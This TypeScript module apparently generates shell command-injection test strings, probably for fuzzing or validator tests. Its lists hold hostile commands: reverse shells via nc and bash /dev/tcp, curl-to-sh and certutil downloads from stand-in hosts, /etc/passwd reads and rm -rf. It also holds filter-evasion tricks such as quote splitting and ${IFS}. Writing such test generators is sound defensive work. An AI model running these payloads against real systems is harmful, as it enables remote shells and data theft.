import type { Choices } from './choices.ts'

// POSIX.1-2024, 2.9 (lists, pipelines), 2.6.3 (substitution), 2.2 (quoting); Windows Commands, "cmd"; about_Pipelines of PowerShell.
const UNIX = [
  'cat /etc/passwd',
  'id',
  'whoami',
  'uname -a',
  'ls -la /',
  'sleep 5',
  'wget http://x.example/a.sh',
  'curl http://x.example/a|sh',
  'nc -e /bin/sh 192.0.2.7 4444',
  'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
  'ping -c 5 192.0.2.7',
  'rm -rf /tmp/a',
  'nslookup x.example',
  'python3 -c "import os"',
  '/bin/cat /etc/hosts',
  'head -1 /etc/passwd',
  'chmod 777 /tmp/a',
  'find / -name a',
  'ifconfig',
  'env',
] as const
const WINDOWS = [
  'dir C:\\',
  'type C:\\boot.ini',
  'ipconfig /all',
  'net user',
  'ping -n 5 192.0.2.7',
  'whoami /all',
  'systeminfo',
  'tasklist',
  'powershell -c "ls"',
  'certutil -urlcache -f http://x.example/a a.exe',
  'timeout 5',
] as const

/** Quotes, backslashes and expansions that a shell takes away. */
function hidden(c: Choices, command: string): string {
  const [name = '', ...args] = command.split(' ')
  if (!/^[a-z]{3,}$/.test(name) || args.length === 0 || /["|>]/.test(command)) return command
  const at = 1 + c.number(name.length - 1)
  const written = c.one([
    `${name.slice(0, at)}''${name.slice(at)}`,
    `${name.slice(0, at)}""${name.slice(at)}`,
    `${name.slice(0, at)}\\${name.slice(at)}`,
    `${name.slice(0, at)}$@${name.slice(at)}`,
    name,
  ])
  return [written, ...args].join(c.one([' ', '${IFS}', '$IFS$9', '\t']))
}

/** A command behind a separator, in a substitution, or behind the end of a quote. */
export function shellAttack(c: Choices): string {
  const windows = c.chance(4)
  const plain = windows ? c.one(WINDOWS) : c.one(UNIX)
  const command = !windows && c.chance(3) ? hidden(c, plain) : plain
  const before = c.one(['', '127.0.0.1', 'a.txt', 'x', 'example.org', '1'])
  const gap = c.one(['', ' ', '  ', '\t'])
  if (!windows && c.chance(4))
    return before + c.one([`$(${command})`, `\`${command}\``, `;$(${command})`, `|\`${command}\``])
  const separator = windows ? c.one(['&', '&&', '|', '||']) : c.one([';', '|', '&', '&&', '||', '\n', ';;'])
  const quote = c.chance(4) ? c.one(["'", '"']) : ''
  const tail = quote === '' ? c.one(['', '', ';', ' #', separator === '|' ? '' : '|', '&']) : `${separator}${quote}`
  return `${before}${quote}${gap}${separator}${gap}${command}${tail}`
}
